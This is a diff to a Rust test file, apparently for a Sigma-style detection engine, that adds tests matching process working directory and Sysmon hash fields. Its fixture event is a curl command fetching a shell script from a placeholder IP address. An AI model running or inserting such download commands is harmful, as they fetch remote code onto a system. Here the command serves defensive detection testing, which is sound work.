@@ -37,6 +37,28 @@ fn with_euid(mut ev: Event, euid: u32) -> Event {
     ev
 }
 
+/// `ev` with its process's image changed by `f` (working directory, hash).
+fn with_image(mut ev: Event, f: impl FnOnce(&mut crate::model::event::Image)) -> Event {
+    let mut p = ev.process.as_deref().unwrap().clone();
+    let mut img = (*p.image).clone();
+    f(&mut img);
+    p.image = Arc::new(img);
+    ev.process = Some(Arc::new(p));
+    ev
+}
+
+fn in_dir(ev: Event, dir: &str) -> Event {
+    with_image(ev, |i| i.working_directory = dir.into())
+}
+
+fn hashed(ev: Event, byte: u8) -> Event {
+    with_image(ev, |i| {
+        let _ = i
+            .hash
+            .set(crate::model::hash::Hashed::from_digest(&[byte; 32]));
+    })
+}
+
 fn cp() -> Arc<Process> {
     proc_of("/usr/bin/cp", &["cp", "a", "b"], true)
 }
@@ -119,7 +141,38 @@ fn table() -> Vec<(&'static str, &'static str, &'static str, Event, Event)> {
             &["curl", "-fsSL", "http://203.0.113.9/x.sh"],
         )
     };
+    // The hex of a digest of 32 0xab bytes, as Sysmon writes it (upper case).
+    let ab = "AB".repeat(32);
     vec![
+        (
+            "CurrentDirectory is process.working_directory",
+            PC,
+            "sel:\n    CurrentDirectory|startswith: '/tmp/'\ncondition: sel",
+            in_dir(curl(), "/tmp/build"),
+            in_dir(curl(), "/home/ann"),
+        ),
+        (
+            "Hashes: the SHA256 of Sysmon's list, with contains",
+            PC,
+            Box::leak(
+                format!("sel:\n    Hashes|contains: 'SHA256={ab}'\ncondition: sel").into_boxed_str(),
+            ),
+            hashed(curl(), 0xab),
+            hashed(curl(), 0xac),
+        ),
+        (
+            "Hashes: a list, MD5 values left out, a whole Sysmon value",
+            PC,
+            Box::leak(
+                format!(
+                    "sel:\n    Hashes:\n      - 'MD5=0123'\n      - 'MD5=01,SHA256={ab},IMPHASH=02'\ncondition: sel"
+                )
+                .into_boxed_str(),
+            ),
+            hashed(curl(), 0xab),
+            // Not hashed (yet): no match.
+            curl(),
+        ),
         (
             "plain value, case-insensitive",
             PC,
